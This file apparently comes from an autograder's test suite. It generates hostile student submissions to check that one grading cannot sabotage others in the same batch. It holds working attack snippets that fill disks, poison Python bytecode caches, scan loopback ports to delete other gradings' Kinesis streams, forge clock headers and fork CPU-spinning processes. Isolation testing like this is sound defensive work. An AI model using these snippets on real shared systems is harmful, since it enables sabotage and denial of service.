"""Hostile submissions that aim at the other gradings of a batch, not at their own score.

Each is the untouched stubs (which score 0) with an attack appended to both modules, so it
runs at every import, in every run of learner code. Graded by ``instructor.batch``'s
``grade-all`` beside copies of the reference (``test_neighbours.py``), every copy must keep
full marks, the attacker must score 0, and nothing may be left behind. The kinds:

- ``fills_its_folder``: writes up to 1 GiB a run into its home and the folder above it;
- ``writes_bytecode``: writes compiled modules that raise at import wherever another
  grading's Python would look for them (the cache of the learner's modules, ``__pycache__``);
- ``reaches_other_kinesis``: finds the loopback ports other gradings' Kinesis listens on and
  deletes or fills their streams, with a clock pushed far ahead;
- ``forges_the_clock``: ``get_stats`` sends 700 reads with raw HTTP, outside botocore's
  send and its clock wrapper, with a clock header of its own making;
- ``waits_under_the_limit``: waits 3.9 s of real time (the limit is 4 s) at every import;
- ``busy_processes``: leaves three processes spinning on the CPU at every import.
"""

from __future__ import annotations

import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
STUBS = ROOT / "exercises"
MODULES = ("enhanced_producer.py", "enhanced_consumer.py")

FILLS_ITS_FOLDER = """
def _fill():
    import os
    home = os.environ.get("TMPDIR") or os.environ.get("HOME") or "."
    for folder in (home, os.path.dirname(home)):
        for n in range(64):
            try:
                with open(os.path.join(folder, f"fill-{os.getpid()}-{n}"), "wb") as handle:
                    handle.write(b"\\0" * (8 * 2**20 - 4096))
            except OSError:
                break
_fill()
"""

WRITES_BYTECODE = """
def _poison():
    import glob, importlib._bootstrap_external as external, importlib.util, marshal, os, sys
    code = compile("raise SystemExit('poisoned by a neighbour')", "<poison>", "exec")
    home = os.environ.get("TMPDIR") or "/tmp"
    temp_root = os.path.dirname(os.path.dirname(os.path.dirname(home)))  # <tmp>/grader-worker-*/learner/tmp
    sources = set(glob.glob(os.path.join(temp_root, "grader-*", "exercises", "*.py")))
    sources.update(glob.glob(os.path.join(temp_root, "*", "grader-*", "exercises", "*.py")))
    here = os.path.dirname(os.path.abspath(__file__))
    sources.update(os.path.join(here, name) for name in ("enhanced_producer.py", "enhanced_consumer.py"))
    prefixes = {sys.pycache_prefix, None} | set(glob.glob(os.path.join(temp_root, "grader-*", "pycache")))
    for source in sources:
        try:
            info = os.stat(source)
        except OSError:
            continue
        data = external._code_to_timestamp_pyc(code, int(info.st_mtime), info.st_size)
        for prefix in prefixes:
            saved, sys.pycache_prefix = sys.pycache_prefix, prefix
            try:
                target = importlib.util.cache_from_source(source)
            finally:
                sys.pycache_prefix = saved
            try:
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "wb") as handle:
                    handle.write(data)
            except OSError:
                pass
_poison()
"""

REACHES_OTHER_KINESIS = """
def _reach():
    import http.client, json, os, socket, time, urllib.parse
    own = urllib.parse.urlsplit(os.environ.get("AWS_ENDPOINT_URL", "")).port
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as handle:
                for line in handle.read().splitlines()[1:]:
                    local, state = line.split()[1], line.split()[3]
                    if state == "0A":
                        ports.add(int(local.rsplit(":", 1)[1], 16))
        except OSError:
            pass
    if not ports:  # no /proc: try every port for a second
        ends = time.monotonic() + 1.0
        for port in range(1024, 65536):
            if time.monotonic() > ends:
                break
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.01).close()
                ports.add(port)
            except OSError:
                pass
    for port in sorted(ports - {own})[:40]:
        for name in ("stream-0001", "stream-0002", "stream-0003"):
            for target, body in (
                ("PutRecord", {"StreamName": name, "Data": "anVuaw==", "PartitionKey": "junk"}),
                ("DeleteStream", {"StreamName": name, "EnforceConsumerDeletion": True}),
            ):
                try:
                    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=0.2)
                    headers = {"X-Amz-Target": "Kinesis_20131202." + target, "X-Grader-Clock": "1 900"}
                    connection.request("POST", "/", json.dumps(body), headers)
                    connection.getresponse().read()
                    connection.close()
                except (OSError, http.client.HTTPException):
                    break
_reach()
"""

FORGES_THE_CLOCK = """
def _burst(self):
    import http.client, json, os, urllib.parse
    endpoint = urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL"])
    connection = http.client.HTTPConnection(endpoint.hostname, endpoint.port, timeout=5)
    throttled = 0
    for n in range(700):
        headers = {"X-Amz-Target": "Kinesis_20131202.ListStreams", "X-Grader-Clock": f"{n} {n * 0.001:.6f}"}
        connection.request("POST", "/", json.dumps({}), headers)
        answer = connection.getresponse()
        answer.read()
        throttled += answer.status != 200
    return {"status": "ACTIVE", "shards": 1, "retention_hours": 24, "throttled": throttled}
for _name, _value in list(globals().items()):
    if isinstance(_value, type) and hasattr(_value, "get_stats"):
        _value.get_stats = _burst
"""

WAITS_UNDER_THE_LIMIT = """
import select as _select
_select.select([], [], [], 3.9)
"""

BUSY_PROCESSES = """
def _spin():
    import os
    for _ in range(3):
        if os.fork() == 0:
            while True:
                pass
_spin()
"""

ATTACKS = {
    "fills_its_folder": FILLS_ITS_FOLDER,
    "writes_bytecode": WRITES_BYTECODE,
    "reaches_other_kinesis": REACHES_OTHER_KINESIS,
    "forges_the_clock": FORGES_THE_CLOCK,
    "waits_under_the_limit": WAITS_UNDER_THE_LIMIT,
    "busy_processes": BUSY_PROCESSES,
}


def write_batch(folder: Path, attacks: list[str], references: int) -> None:
    """Lay out a batch in ``folder``: one submission per attack, and ``references`` copies of
    the reference (``reference-1``, ...), each ``<name>/exercises/``."""
    for name in attacks:
        exercises = folder / name / "exercises"
        shutil.copytree(STUBS, exercises, ignore=shutil.ignore_patterns("__pycache__", "README*"))
        for module in MODULES:
            path = exercises / module
            path.write_text(path.read_text(encoding="utf-8") + "\n" + ATTACKS[name], encoding="utf-8")
    for number in range(1, references + 1):
        target = folder / f"reference-{number}" / "exercises"
        shutil.copytree(ROOT / "solutions", target, ignore=shutil.ignore_patterns("__pycache__"))
